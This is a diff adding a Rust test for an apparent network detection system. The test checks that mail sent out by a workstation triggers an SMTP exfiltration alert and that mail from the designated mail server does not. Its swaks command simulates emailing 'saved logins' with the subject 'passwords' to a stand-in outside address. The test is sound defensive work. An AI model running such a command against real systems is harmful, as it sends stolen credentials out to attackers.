@@ -285,6 +285,48 @@ fn bulk_upload_is_detected_and_large_downloads_are_not() {
 }
 
 #[test]
+fn mail_sent_out_by_a_workstation_alerts_and_the_mail_server_s_does_not() {
+    // office2 is the site's mail server; office1 a workstation.
+    let lab = lab::start(
+        "detmail",
+        "[detection.roles]\nmail_servers = [\"10.10.0.12\"]\n",
+    );
+    let _smtp = background(
+        &lab,
+        "web",
+        "smtp",
+        "exec python3 -W ignore -m smtpd -n -c DebuggingServer 0.0.0.0:25",
+    );
+    wait_for(10, || {
+        lab.host("web")
+            .netns
+            .exec("ss", &["-Hlnt", "sport", "=", ":25"])
+            .map(|o| !o.trim().is_empty())
+            .unwrap_or(false)
+    });
+    for host in ["office1", "office2"] {
+        browse(&lab, host);
+        let sent = run(
+            &lab,
+            host,
+            "swaks --server 203.0.113.80 --from clerk@city.lab --to drop@example.org \
+             --header 'Subject: passwords' --body 'saved logins' 2>&1",
+        );
+        assert!(sent.contains("<-  250"), "swaks from {host}:\n{sent}");
+    }
+    let seen = wait_for(15, || {
+        detectors(&lab, "10.10.0.11").contains(&"exfiltration.smtp".into())
+    });
+    assert!(seen.is_some(), "{:?}", incidents_of(&lab, "10.10.0.11"));
+    std::thread::sleep(std::time::Duration::from_secs(3));
+    assert!(
+        incidents_of(&lab, "10.10.0.12").is_empty(),
+        "the mail server: {:?}",
+        incidents_of(&lab, "10.10.0.12")
+    );
+}
+
+#[test]
 fn intel_lists_reload_without_restart_and_policy_drops_become_incidents() {
     let intel = std::env::temp_dir().join(format!(
         "{}-intel.txt",
